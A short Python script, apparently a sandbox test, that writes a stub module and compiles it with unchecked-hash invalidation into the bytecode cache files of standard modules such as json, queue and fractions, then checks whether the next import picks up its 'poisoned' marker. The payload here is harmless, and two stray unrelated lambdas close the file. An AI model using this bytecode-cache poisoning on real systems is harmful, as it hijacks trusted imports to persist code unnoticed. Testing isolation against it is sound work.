"""Leaves byte-code under the names of modules that the next run imports.

Outcome: ok
Times: 2
"""

import importlib.util
import os
import py_compile
import sys

with open("poison.py", "w") as file:
    file.write("poisoned = True\n")
found = []
for name in ("attacked", "json", "random", "queue", "fractions"):
    spec = importlib.util.find_spec(name)
    for target in (spec.cached, f"__pycache__/{name}.cpython-{sys.version_info[0]}{sys.version_info[1]}.pyc"):
        try:
            py_compile.compile(
                "poison.py", target, invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH, doraise=True
            )
        except (OSError, py_compile.PyCompileError):
            pass
import fractions
import queue

found = [module for module in (fractions, queue, sys.modules[__name__]) if hasattr(module, "poisoned")]
if found:
    print("GOT THROUGH")
    double = lambda x: x + x
    twenty_sixteen = lambda: 2016
